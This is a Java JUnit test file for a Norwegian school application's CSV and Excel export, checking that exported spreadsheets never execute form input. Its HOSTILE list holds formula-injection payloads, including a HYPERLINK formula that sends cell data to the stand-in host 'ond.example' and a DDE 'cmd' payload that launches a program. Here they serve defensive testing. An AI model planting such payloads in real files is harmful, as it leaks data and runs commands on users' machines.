package no.innovasjonsskolen.office;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDateTime;
import java.util.List;
import java.util.stream.IntStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Files that are opened in a spreadsheet must never run what somebody wrote in a form. */
class CaseTableTest {

    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://ond.example/?\"&A1,\"Trykk her\")", "+1+cmd|'/c calc'!A0", "-1+2",
            "@SUM(1;2)",
            "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "＝1+1", "\u00a0=1+1");
    private static final List<String> HARMLESS = List.of(
            "Lom", "Sør-Varanger", "a=b", "Gáivuotna – Kåfjord – Kaivuono", "semi;kolon",
            "«sitat» \"anførsel\"",
            "to\nlinjer", "", "0042", "🎓");

    private static CaseTable table(List<String> texts) {
        return new CaseTable("soknader-2027", List.of("Navn", "Antall", "Når"), texts.stream()
                .map(text -> List.of(Cell.of(text), Cell.of(2_232),
                        Cell.of(Instant.parse("2027-03-28T01:30:00Z"))))
                .toList());
    }

    @Test
    @DisplayName("CSV: det som ligner en formel, får en apostrof foran; alt annet står som det ble skrevet")
    void csv() {
        var hostile = records(table(HOSTILE).csv());
        var harmless = records(table(HARMLESS).csv());

        assertThat(hostile).hasSize(HOSTILE.size() + 1);
        assertThat(hostile.stream().skip(1))
                .allSatisfy(line -> assertThat(line.getField(0)).startsWith("'").contains("1"));
        assertThat(harmless.stream().skip(1).map(line -> line.getField(0)))
                .containsExactlyElementsOf(HARMLESS);
        assertThat(harmless.get(1).getFields()).containsExactly("Lom", "2232", "2027-03-28 03:30");
    }

    @Test
    @DisplayName("CSV: Excel kjenner igjen æøå og deler på semikolon")
    void csvOpensInNorwegianExcel() {
        var file = table(List.of("Bø")).csv();

        assertThat(file).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(file, StandardCharsets.UTF_8)).contains("Navn;Antall;Når\r\nBø;2232;");
    }

    @Test
    @DisplayName("Regneark: ingen celle er en formel, ingen tekst får en apostrof, tall er tall, og tidspunkt er tidspunkt")
    void xlsx() throws IOException {
        var texts = IntStream.range(0, 120).boxed()
                .flatMap(_ -> List.of(HOSTILE, HARMLESS).stream().flatMap(List::stream)).toList();

        try (var book = new XSSFWorkbook(new ByteArrayInputStream(table(texts).xlsx()))) {
            var sheet = book.getSheet("soknader-2027");

            assertThat(sheet.getLastRowNum()).isEqualTo(texts.size());
            sheet.forEach(row -> row
                    .forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA)));
            for (int i = 0; i < HOSTILE.size(); i++) {
                var cell = sheet.getRow(i + 1).getCell(0);
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).doesNotStartWith("'").contains("1");
            }
            var lom = sheet.getRow(HOSTILE.size() + 1);
            assertThat(lom.getCell(0).getStringCellValue()).isEqualTo("Lom");
            assertThat(lom.getCell(1).getNumericCellValue()).isEqualTo(2_232);
            assertThat(lom.getCell(2).getLocalDateTimeCellValue())
                    .isEqualTo(LocalDateTime.parse("2027-03-28T03:30"));
        }
    }

    @Test
    @DisplayName("Et telefonnummer kan leses og ringes, og er aldri et regnestykke")
    void telephones() throws IOException {
        var numbers = List.of("+47 61 21 70 00", "+46 70 123 45 67", "+4761217000", "61 21 70 00",
                "+1+cmd|'/c calc'!A0", "+47 61 =1+1");
        var table = new CaseTable("telefoner", List.of("Telefon"),
                numbers.stream().map(it -> List.of(Cell.telephone(it))).toList());

        assertThat(records(table.csv()).stream().skip(1).map(line -> line.getField(0))).containsExactly(
                "(+47) 61 21 70 00", "(+46) 70 123 45 67", "tel:+4761217000", "61 21 70 00",
                "'+1+cmd|'/c calc'!A0", "'+47 61 =1+1");
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(table.xlsx()))) {
            for (int i = 0; i < numbers.size(); i++) {
                var cell = book.getSheetAt(0).getRow(i + 1).getCell(0);
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(numbers.get(i));
            }
        }
    }

    @Test
    @DisplayName("Et kommunenummer beholder nullen, også når Excel åpner en CSV-fil")
    void municipalityNumbers() throws IOException {
        var table = new CaseTable("kommuner", List.of("Kommunenummer"),
                List.of(List.of(new Cell.Code("0301", "Oslo"))));

        assertThat(records(table.csv()).get(1).getField(0)).isEqualTo("0301 Oslo");
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(table.xlsx()))) {
            assertThat(book.getSheetAt(0).getRow(1).getCell(0).getStringCellValue()).isEqualTo("0301");
        }
    }

    @Test
    @DisplayName("En tom liste er en fil med overskrifter")
    void empty() throws IOException {
        assertThat(records(table(List.of()).csv())).hasSize(1);
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(table(List.of()).xlsx()))) {
            assertThat(book.getSheetAt(0).getRow(0).getCell(2).getStringCellValue()).isEqualTo("Når");
        }
    }

    private static List<CsvRecord> records(byte[] file) {
        var text = new String(file, StandardCharsets.UTF_8).substring(1);
        return CsvReader.builder().fieldSeparator(';').skipEmptyLines(false).ofCsvRecord(text).stream()
                .toList();
    }
}
